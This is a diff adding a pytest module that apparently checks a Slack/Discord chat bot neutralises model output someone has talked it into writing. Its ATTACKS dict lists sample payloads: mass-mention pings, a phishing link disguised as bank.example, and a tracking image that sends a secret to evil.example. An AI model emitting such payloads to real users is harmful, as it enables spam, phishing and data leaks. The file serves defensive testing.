@@ -1,0 +1,80 @@
+"""What the model says, whoever has talked it into that, calls nobody and hides no link."""
+
+import re
+from collections.abc import AsyncIterator
+from contextlib import AsyncExitStack
+from typing import Any
+
+import discord
+import pytest
+import pytest_asyncio
+from discord.gateway import DiscordWebSocket
+
+from channels.context import END
+from tests.channels.benches import PLATFORMS, Talk, quick, sandbox_of, shows, talking
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+ATTACKS = {
+    "a broadcast to the channel": "Look, <!channel> and @everyone!",
+    "a broadcast to who is here": "<!here|here> and @here",
+    "a broadcast to the whole workspace": "<!everyone> **@everyone**",
+    "a person by his id": "Tell <@{user}> and <@!{user}>.",
+    "a person with another name on him": "Tell <@{user}|nobody>.",
+    "a role and a user group": "<@&{user}> <!subteam^{user}> <!subteam^{user}|team>",
+    "a channel as a link": "See <#{user}> and <#{user}|general>.",
+    "a token that is split by markup": "<**!channel**> <!_here_> @**everyone**",
+    "a token out of html": "<b><!channel></b> @<span>everyone</span> &lt;!channel&gt;",
+    "a token in a table": "| a |\n| --- |\n| <!channel> @everyone |",
+    "a token in a heading": "# <!channel> @everyone",
+    "a token in a quote and a list": "> <!here>\n\n- @here\n1. <@{user}>",
+    "a token as the text of a link": "[<!channel>](https://x.example) [@everyone](https://x.example)",
+    "a token as the target of a link": "[click](<!channel>) [click](<@{user}>)",
+    "a token behind an open fence": "```\ncode\n```<!channel> @everyone",
+    "a token behind a backslash": "\\<!channel> \\@everyone \\<@{user}>",
+    "a date that carries a link": "<!date^1392734382^{{date}}^https://evil.example|free>",
+    "a link that looks like another": "[https://bank.example](https://evil.example/login)",
+    "a link in slack's own words": "<https://evil.example/login|https://bank.example>",
+    "a command to be pressed": "</reset:{user}> <slackapp://x|press>",
+    "a picture that tells who looks": "![x](https://evil.example/track.png?secret)",
+}
+
+
+#: What each of the platforms would take for more than text.
+TOKENS = {"slack": r"<(!|@|#|/|https?:[^>|]*\||slackapp)", "discord": r"<[@#/]|@(everyone|here)"}
+
+
+def said(asked: Any) -> str:
+    return answers[asked.text.rpartition(END)[2].strip().rpartition("case ")[2]]
+
+
+answers = dict[str, str]()
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module", params=PLATFORMS)
+async def talk(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Talk]:
+    """One conversation for all of them."""
+    async with AsyncExitStack() as stack:
+        patched = stack.enter_context(pytest.MonkeyPatch.context())
+        patched.setattr(discord.http.Route, "BASE", discord.http.Route.BASE)
+        patched.setattr(DiscordWebSocket, "DEFAULT_GATEWAY", DiscordWebSocket.DEFAULT_GATEWAY)
+        sandbox = await stack.enter_async_context(sandbox_of(request.param))
+        folder = tmp_path_factory.mktemp(request.param)
+        talk = await stack.enter_async_context(talking(sandbox, folder, said, most_messages=20))
+        quick(talk.bot)
+        user = sandbox.people["grace"].id
+        answers.update({str(n): f"{text.format(user=user)}\n\nend {n}." for n, text in enumerate(ATTACKS.values())})
+        yield talk
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+async def test_it_comes_out_as_text(talk: Talk, attack: str) -> None:
+    number = list(ATTACKS).index(attack)
+    await talk.say(f"case {number}")
+    await shows(talk, lambda found: [text for text in found if f"end {number}." in text])
+    (reply,) = [message for message in talk.replies() if f"end {number}." in message.text]
+    assert reply.pings == frozenset()
+    sent = re.sub(r"```.*?(```|$)", "", str(reply.content).replace("\\n", "\n"), flags=re.DOTALL)  # code is only shown
+    assert not re.search(TOKENS[talk.bot.channel.name], sent), sent
+    if "link" in attack and "evil" in ATTACKS[attack]:
+        assert "evil.example" in reply.text
